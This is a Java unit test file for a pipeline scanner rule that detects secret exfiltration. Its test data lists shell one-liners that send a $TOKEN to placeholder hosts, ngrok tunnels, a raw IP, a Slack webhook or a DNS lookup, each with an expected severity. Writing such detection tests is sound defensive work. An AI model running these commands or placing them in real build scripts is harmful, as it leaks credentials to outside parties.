package dev.sallyport.scan.rule.pipeline;

import static org.assertj.core.api.Assertions.assertThat;

import dev.sallyport.base.model.finding.Finding;
import dev.sallyport.scan.rule.Policies;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class SecretExfiltrationTest {
  private static final SecretExfiltration RULE = new SecretExfiltration();

  private static String found(List<Finding> findings) {
    return findings.isEmpty()
        ? "-"
        : String.join(
            ",", findings.stream().map(f -> f.severity().id() + " " + f.persona().id()).toList());
  }

  @ParameterizedTest
  @CsvSource(
      delimiterString = "==>",
      quoteCharacter = '\u0001',
      textBlock =
          """
          curl -d "$TOKEN" https://collect.example.net            ==> medium default
          curl "https://collect.example.net/?t=$TOKEN"            ==> medium default
          curl -H "X: $TOKEN" https://stats.example.net           ==> low default
          curl -u bot:$TOKEN https://stats.example.net            ==> low default
          curl -sSL -X POST https://a.example.net --data="$TOKEN" ==> medium default
          curl -d "$TOKEN" http://198.51.100.7/                   ==> high default
          curl -d "$TOKEN" https://abc.ngrok.io                   ==> high default
          U=https://abc.ngrok.io; curl -d "$TOKEN" $U/x           ==> high default
          echo "$TOKEN" | curl -d @- https://collect.example.net  ==> medium default
          echo "$TOKEN" | base64 | curl -d @- https://c.example.net ==> medium default
          curl -d "$TOKEN" https://hooks.slack.com/services/x     ==> high default
          curl -d "$TOKEN" "$UNKNOWN/path"                        ==> low pedantic
          nslookup $TOKEN.example.net                             ==> high default
          curl -d "$TOKEN" https://api.github.com/x               ==> -
          curl -H "X: $TOKEN" https://s3.eu-west-1.amazonaws.com  ==> -
          curl -d '{}' "https://hooks.slack.com/services/$TOKEN"  ==> -
          curl "$TOKEN"                                           ==> -
          curl -H "X: $TOKEN" http://localhost:3000               ==> -
          curl -H "X: $TOKEN" http://service:8080                 ==> -
          curl -d "$BOT_USER" https://collect.example.net         ==> -
          curl https://collect.example.net; deploy "$TOKEN"       ==> -
          """)
  void scripts(String script, String expected) {
    assertThat(found(SecretSamples.script(RULE, script))).isEqualTo(expected);
  }

  @Test
  void policiesAllowHosts() {
    Policies policies =
        new Policies(
            Map.of(),
            List.of(),
            List.of(),
            List.of("a.example.net", "*.in.example.net"),
            List.of());
    String script =
        """
        curl -d "$TOKEN" https://a.example.net https://x.in.example.net
        curl -d "$TOKEN" https://a.example.net.example.org
        """;
    assertThat(SecretSamples.script(RULE, policies, script))
        .singleElement()
        .satisfies(f -> assertThat(f.message()).contains("a.example.net.example.org"));
  }

  @ParameterizedTest
  @CsvSource({
    "https://user:x@Host.example.com:8443/p?q=a.b, host.example.com",
    "host.example.com/path, host.example.com",
    "host:443, host",
    "http://[2001:db8::1]:80/, 2001:db8::1",
    "https://a.com\\@b.com/, a.com"
  })
  void hosts(String url, String host) {
    assertThat(Destination.host(url)).isEqualTo(host);
  }
}
